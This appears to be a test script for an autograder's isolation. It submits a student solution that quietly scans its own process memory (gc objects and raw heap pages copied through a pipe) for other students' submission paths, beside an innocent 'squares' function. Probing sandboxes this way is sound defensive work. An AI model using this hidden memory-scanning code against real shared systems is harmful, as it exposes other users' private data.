# zed (graded last: students go in name order) scans his session's memory for classmates'
# submission paths: every string Python can reach, and raw memory (the C heap below the program
# break, and each megabyte holding a Python object) copied out through a pipe, which answers
# EFAULT for unmapped pages instead of crashing (/proc/self/mem is not readable in a session).
# The patterns are regular expressions, so the scan cannot find its own needle.
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
from attack_setup import submit_with_solution

submit_with_solution(sys.argv[1], "zed", "squares", r'''import ctypes, gc, os, re
pattern = re.compile(rb"submitted/(alice|bob)\b|\b(alice|bob)/ps1")
found, scanned = set(), 0
for holder in gc.get_objects():
    for value in gc.get_referents(holder):
        if isinstance(value, str):
            value = value.encode(errors="replace")
        if isinstance(value, bytes):
            found.update(m.group(1) or m.group(2) for m in pattern.finditer(value))
libc = ctypes.CDLL(None, use_errno=True)
libc.sbrk.restype = ctypes.c_void_p
libc.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
read_end, write_end = os.pipe()
step = 1 << 16
top = libc.sbrk(0) // step * step
starts = set(range(top - (256 << 20), top, step))
for holder in gc.get_objects():
    base = id(holder) >> 20 << 20
    starts.update(range(base, base + (1 << 20), step))
for start in sorted(starts):
    copied = libc.write(write_end, start, step)
    if copied > 0:
        chunk = os.read(read_end, copied)
        scanned += len(chunk)
        found.update(m.group(1) or m.group(2) for m in pattern.finditer(chunk))
print("heap scan:", scanned, "bytes; classmates:", sorted(x.decode() for x in found) or "none")

def squares(n):
    if n < 1:
        raise ValueError("n must be positive")
    return [i ** 2 for i in range(1, n + 1)]
''')
